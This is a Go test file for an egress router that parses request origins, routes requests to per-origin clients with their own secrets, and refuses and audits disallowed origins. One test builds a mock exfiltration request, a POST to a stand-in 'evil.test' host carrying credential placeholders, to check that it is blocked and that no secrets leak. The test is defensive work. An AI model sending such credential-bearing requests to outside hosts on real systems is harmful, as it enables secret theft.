package egress

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/baton-runner/baton-runner/abi"
)

func TestRequestOrigin(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://api.demo.test", "https://api.demo.test:443"},
		{"HTTPS://API.Demo.Test:443", "https://api.demo.test:443"},
		{"https://api.demo.test/", "https://api.demo.test:443"},
		{"http://127.0.0.1", "http://127.0.0.1:80"},
		{"https://[::1]:8443", "https://[::1]:8443"},
		{"https://api.demo.test:8443", "https://api.demo.test:8443"},
	} {
		if o, ok := requestOrigin(tc.in); !ok || o.String() != tc.want {
			t.Errorf("requestOrigin(%q) = %q, %t; want %q", tc.in, o.String(), ok, tc.want)
		}
	}
	for _, bad := range []string{"api.demo.test", "https://api.demo.test/v1", "https://u:p@api.demo.test", "https://api.demo.test?x=1",
		"https://api.demo.test#f", "ftp://api.demo.test", "https://", "https://api.demo.test:x", "//api.demo.test"} {
		if o, ok := requestOrigin(bad); ok {
			t.Errorf("requestOrigin(%q) = %q, want refused", bad, o.String())
		}
	}
}

// TestRouterSendsEachOriginToItsClient: a request naming no origin goes to
// the first client, one naming an allowed origin (in any case, with or
// without its default port) to that origin's client, each with its own
// secrets.
func TestRouterSendsEachOriginToItsClient(t *testing.T) {
	api, auth := newRecorder(t, nil), newRecorder(t, nil)
	a := newTestClient(t, api.URL, withSecrets)
	b := newTestClient(t, auth.URL, withSecrets)
	r, err := NewRouter(a.c, b.c)
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Origins(); len(got) != 2 || got[0] != a.c.Origin() || got[1] != b.c.Origin() {
		t.Errorf("Origins() = %v", got)
	}
	ctx := context.Background()
	wantStatus(t, r.Do(ctx, abi.HTTPRequest{Method: "GET", Path: "/users"}), 200)
	wantStatus(t, r.Do(ctx, abi.HTTPRequest{Origin: strings.ToUpper(api.URL), Method: "GET", Path: "/groups"}), 200)
	wantStatus(t, r.Do(ctx, abi.HTTPRequest{Origin: auth.URL + "/", Method: "POST", Path: "/token",
		Headers: map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}}, Body: []byte("secret=" + keyText)}), 200)

	if got := api.requests(); len(got) != 2 || got[0].Path != "/users" || got[1].Path != "/groups" {
		t.Errorf("API origin saw %+v", got)
	}
	if got := auth.requests(); len(got) != 1 || got[0].Path != "/token" || !strings.Contains(string(got[0].Body), "secret=p%40ss") {
		t.Errorf("auth origin saw %+v", got)
	}
	if n, m := len(a.audit.all()), len(b.audit.all()); n != 2 || m != 1 {
		t.Errorf("audit records %d and %d, want each client's own", n, m)
	}
}

// TestRouterRefusesOtherOrigins: an origin the tenant does not allow is
// refused before the network and audited, naming the origin, how to
// allow it, and the secret placeholders the request would have carried
// there (unsubstituted).
func TestRouterRefusesOtherOrigins(t *testing.T) {
	api, auth := newRecorder(t, nil), newRecorder(t, nil)
	a := newTestClient(t, api.URL, withSecrets)
	b := newTestClient(t, auth.URL, nil)
	r, err := NewRouter(a.c, b.c)
	if err != nil {
		t.Fatal(err)
	}
	basic := base64.StdEncoding.EncodeToString([]byte("user:" + keyIDText))
	resp := r.Do(context.Background(), abi.HTTPRequest{Origin: "https://Evil.test", Method: "POST", Path: "/collect?k=v",
		Headers: map[string][]string{"Authorization": {"Basic " + basic}}, Body: []byte(`{"k":"` + keyText + `"}`)})
	want := `origin https://evil.test is not among the tenant's allowed origins (` + strings.ToLower(api.URL) + ", " + strings.ToLower(auth.URL) +
		`); allow it with origins = ["https://evil.test"] in the tenant's table or --allow-origin https://evil.test` +
		"; the request carried secret placeholder(s) for field(s) api_key, api_key_id, not substituted"
	wantError(t, resp, abi.CodeEgressDenied, want)
	rec := a.audit.one(t)
	if rec.Host != "evil.test:443" || rec.Path != "/collect" || rec.Method != "POST" || rec.Attempts != 0 || !strings.Contains(rec.Denied, "api_key, api_key_id") {
		t.Errorf("record %+v", rec)
	}
	noSecret(t, "record", fmt.Sprintf("%+v", rec))
	if n := len(b.audit.all()); n != 0 {
		t.Errorf("second client audited %d records, want the refusal in the first's", n)
	}

	resp = r.Do(context.Background(), abi.HTTPRequest{Origin: "https://api.demo.test/v1", Method: "GET", Path: "/"})
	wantError(t, resp, abi.CodeEgressDenied, `origin "https://api.demo.test/v1" is not scheme://host[:port]`)
	if len(api.requests())+len(auth.requests()) != 0 {
		t.Error("a refused origin reached an allowed one")
	}
}

// TestClientRefusesAnotherOrigin: a Client used alone (as a Segment
// tenant's) serves requests naming no origin or its own, and refuses any
// other: the Origin field never redirects a request.
func TestClientRefusesAnotherOrigin(t *testing.T) {
	srv := newRecorder(t, nil)
	env := newTestClient(t, srv.URL, withSecrets)
	wantStatus(t, env.c.Do(context.Background(), abi.HTTPRequest{Origin: srv.URL, Method: "GET", Path: "/"}), 200)
	port := srv.URL[strings.LastIndex(srv.URL, ":")+1:]
	resp := env.c.Do(context.Background(), abi.HTTPRequest{Origin: "https://127.0.0.1:" + port, Method: "GET", Path: "/",
		Headers: map[string][]string{"X-Api-Key": {keyText}}})
	wantError(t, resp, abi.CodeEgressDenied, "origin https://127.0.0.1:"+port+" is not among the tenant's allowed origins ("+srv.URL+")")
	wantError(t, resp, abi.CodeEgressDenied, "placeholder(s) for field(s) api_key, not substituted")
	recs := env.audit.all()
	if len(recs) != 2 || recs[1].Denied == "" || recs[1].Host != "127.0.0.1:"+port {
		t.Errorf("records %+v", recs)
	}
	if n := len(srv.requests()); n != 1 {
		t.Errorf("server saw %d requests, want 1", n)
	}
}

func TestNewRouterRefuses(t *testing.T) {
	a := newTestClient(t, "https://api.demo.test", nil)
	same := newTestClient(t, "HTTPS://API.demo.test:443", nil)
	for _, tc := range []struct {
		name    string
		clients []*Client
		want    string
	}{
		{"no client", nil, "at least one client"},
		{"the same origin twice", []*Client{a.c, same.c}, "origin https://api.demo.test is given twice"},
		{"a nil client", []*Client{a.c, nil}, "client 2 of the router is nil"},
	} {
		if _, err := NewRouter(tc.clients...); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
		}
	}
	var nilRouter *Router
	wantError(t, nilRouter.Do(context.Background(), get("/")), abi.CodeUnavailable, "no client")
}
